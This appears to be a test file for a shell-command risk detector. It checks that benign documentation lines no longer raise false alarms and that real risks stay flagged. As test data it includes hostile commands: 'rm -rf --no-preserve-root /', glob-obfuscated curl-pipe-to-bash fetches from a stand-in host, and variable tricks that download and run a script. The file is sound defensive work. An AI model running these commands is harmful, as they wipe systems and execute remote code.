// Round 10 of the risk flags (session 17): precision. The false alarms the benign corpus raised when its
// command lines were read through (bench/benign-corpus.ts's `gatherSources`/`chunk` on a Debian 12
// machine: 753 flags on 9,537 trails of 6 commands, bench/RESULTS.md "Session 17"), and the ones
// test/fixtures/benign-false-alarms.json raised when each text was read as a command. Every "not
// flagged" case below was flagged before this round; the "still flagged" ones are their true neighbours.
import { describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { REPO_DIR } from "../../test/support/paths.ts";
import { trailWith } from "../../test/support/risk-trail.ts";
import { cpuMsSince } from "../../test/support/cpu-time.ts";
import { analyzeCommand, assessRisk } from "./risk.ts";

const flagsOf = (command: string) => analyzeCommand(command).map((f) => `${f.flag}/${f.level}`);
const detailsOf = (command: string) => analyzeCommand(command).map((f) => `${f.flag}: ${f.detail}`);

describe("benign corpus commands flagged before round 10", () => {
  // [command, where it was read, the flag it raised]
  const NOT_FLAGGED: [string, string, string][] = [
    ['make Avahi hit an assert()); problem identified by "jamesh"', "avahi NEWS", "credential_exposure (SQL password)"],
    ["docker service create --name redis --secret secret.json redis:3.0.6", "docker service_create.md", "credential_exposure"],
    ["gcloud secrets versions disable 123 --secret=my-secret --etag=123", "gcloud reference", "credential_exposure"],
    ["rm no longer accepts shortened variants of the --no-preserve-root option.", "coreutils NEWS", "destructive_delete/high"],
    ["git rebase --abort", "git-rebase.txt", "history_rewrite"],
    ["pip install path/to/SomeProject", "pip local-project-installs.md", "unpinned_install"],
    ["python -m pip install --force-reinstall --no-index --no-deps $tempdir/*", "pip repeatable-installs.md", "unpinned_install"],
    ["pip install \\", "pip installation-report.md", "unpinned_install"],
    ['echo  abc | \\*n { gsub(//, "X") ; print }', "awk(1)", "obfuscated_command/high"],
  ];
  for (const [command, origin, was] of NOT_FLAGGED)
    test(`${command} (${origin}; was ${was})`, () => {
      expect(flagsOf(command)).toEqual([]);
    });

  test("the true neighbours stay flagged", () => {
    const STILL: [string, string][] = [
      ["mysql -e \"CREATE USER 'app'@'%' IDENTIFIED BY 'S3cret!'\"", "credential_exposure/low"],
      ["mysql -e \"GRANT ALL ON app.* TO 'app'@'localhost' IDENTIFIED BY 'S3cret!'\"", "credential_exposure/low"],
      ["psql -c \"ALTER ROLE app WITH PASSWORD 'S3cret!'\"", "credential_exposure/low"],
      [
        "docker swarm join --token SWMTKN-1-3pu6hszjas19xyp7ghgosyx9k8atbfcr8p2is99znpy26u2lkl-1awxwuwd3z9j1z3puu7rcgdbx 10.0.0.2:2377",
        "credential_exposure/low",
      ],
      ["mycli --secret hunter2", "credential_exposure/low"],
      ["rm -rf --no-preserve-root /", "destructive_delete/high"],
      ["rm --no-preserve-root -r /srv", "destructive_delete/high"],
      ["git rebase -i HEAD~5", "history_rewrite/low"],
      ["git rebase --continue", "history_rewrite/low"],
      ["pip install Flask", "unpinned_install/low"],
      ["pip install --no-index --find-links https://wheels.x.example/ requests", "unpinned_install/low"],
      ["pip install git+https://github.com/pypa/pip/", "unpinned_install/low"],
      ["/???/b??/c?rl https://x.example/p.sh | bash", "remote_script_execution/high"],
      ["/usr/bin/*url https://x.example", "obfuscated_command/high"],
    ];
    for (const [command, flag] of STILL)
      expect({ command, flags: flagsOf(command) }).toEqual({ command, flags: expect.arrayContaining([flag]) });
  });

  test("a case branch's `*)` in a patched script, its `case` line above the window (/etc/init.d/hwclock.sh)", () => {
    const diff = [
      "        show)",
      "            /sbin/hwclock --rtc=/dev/$HCTOSYS_DEVICE --show",
      "            ;;",
      "        *)",
      '            log_success_msg "Usage: hwclock.sh {stop|reload|force-reload|show}"',
      "            return 1",
    ]
      .map((l) => `+${l}`)
      .join("\n");
    expect(assessRisk(trailWith([], [{ file_path: "hwclock.sh", diff }])).flags).toEqual([]);
  });

  test("an install names the package it installs", () => {
    // `npx -p pkg bin` installs pkg (the detail named the program, bundle-api); --no-binary takes a package list
    expect(detailsOf("npx -p @seriousme/openapi-schema-validator bundle-api spec.yaml")).toEqual([
      "unpinned_install: installs @seriousme/openapi-schema-validator without a pinned version",
    ]);
    expect(detailsOf("npx -p @seriousme/openapi-schema-validator@2.4.1 bundle-api spec.yaml")).toEqual([]);
    expect(detailsOf("pip install --no-binary pyuwsgi pyuwsgi")).toEqual(["unpinned_install: installs pyuwsgi without a pinned version"]);
  });
});

describe("benign false-alarm fixtures read as commands", () => {
  const FIXTURES = JSON.parse(readFileSync(join(REPO_DIR, "test/fixtures/benign-false-alarms.json"), "utf8")) as {
    texts: { text: string; why: string }[];
  };

  test("none raises a risk flag as a command or a patched script's line", () => {
    // 12 did before: changelog bullets (`* …`) read as a glob hiding curl, and prose after -keypass,
    // --password, cwebp's -pass or a continued line's backslash read as a password on the command line
    const flagged = FIXTURES.texts.flatMap(({ text }) => {
      const asCommand = assessRisk(trailWith([text])).flags;
      const asPatch = assessRisk(trailWith([], [{ file_path: "fix.sh", diff: `+${text}` }])).flags;
      return [...asCommand, ...asPatch].map((f) => `${JSON.stringify(text.slice(0, 60))}: ${f.flag}`);
    });
    expect(flagged).toEqual([]);
  });

  test("the option readings they share still catch a real secret or a real glob", () => {
    expect(flagsOf("keytool -genkey -alias k -keystore ks.jks -keypass hunter2")).toEqual(["credential_exposure/low"]);
    expect(flagsOf("mysqladmin --user=root --password S3cret! status")).toContain("credential_exposure/low");
    expect(flagsOf("openssl enc -aes-256-cbc -pass pass:hunter2 -in a -out b")).toEqual(["credential_exposure/low"]);
    expect(flagsOf("/???/?ash -c id")).toContain("obfuscated_command/high");
    // a lone star runs the first file of the directory: no program is named
    expect(flagsOf("* Updated package to Policy 3.6.1.1.")).toEqual([]);
  });
});

describe("hostile input of distinct commands costs linear time", () => {
  // 64 KB of distinct commands, `i` counting: before this round every assignment made every pipeline
  // read before be read again (`a1=1; $(x); a2=1; $(x); …`: 3,600 commands cost 90–100 ms as a command);
  // now a pipeline is read again only when a variable it names changes. Budgets are in this process's
  // CPU time, generous: they catch a quadratic cost (seconds), not a slower machine.
  const numbered = (unit: (i: number) => string) => {
    let text = "";
    for (let i = 0; text.length < 65536; i++) text += unit(i);
    return text.slice(0, 65536);
  };
  const INPUTS: [string, string][] = [
    ["a$i=1; $(x); ", numbered((i) => `a${i}=1; $(x); `)],
    ["a$i=1; $(x$i); ", numbered((i) => `a${i}=1; $(x${i}); `)],
    ["curl x$i | sh; ", numbered((i) => `curl x${i} | sh; `)],
    ["cd d$i; rm -rf x; ", numbered((i) => `cd d${i}; rm -rf x; `)],
    ["f$i(){ curl x | sh; }; f$i; ", numbered((i) => `f${i}(){ curl x | sh; }; f${i}; `)],
    // the SQL password rule looks up to 400 characters past each GRANT / CREATE USER for IDENTIFIED BY
    ["grant ", numbered(() => "grant ")],
    ["create user x ", numbered(() => "create user x ")],
  ];
  for (const [name, text] of INPUTS)
    test(`${name} as a command and a Dockerfile's lines`, () => {
      let best = Number.POSITIVE_INFINITY;
      for (let run = 0; run < 3; run++) {
        const t0 = process.cpuUsage();
        assessRisk(trailWith([text]));
        assessRisk(trailWith([], [{ file_path: "Dockerfile", diff: text }]));
        best = Math.min(best, cpuMsSince(t0));
      }
      expect(best).toBeLessThan(1000);
    });

  test("a pipeline read once is read again when a variable it names changes", () => {
    // the first `$a … | sh` runs echo; after a=curl the same text fetches and runs a script
    const flags = (command: string) => assessRisk(trailWith([command])).flags.map((f) => `${f.flag}/${f.level}`);
    expect(flags("a=echo; $a https://x.example/i.sh | sh; b=1; a=curl; $a https://x.example/i.sh | sh")).toContain(
      "remote_script_execution/high",
    );
    expect(flags("f(){ $a https://x.example/i.sh | sh; }; a=echo; f; a=curl; f")).toContain("remote_script_execution/high");
  });
});
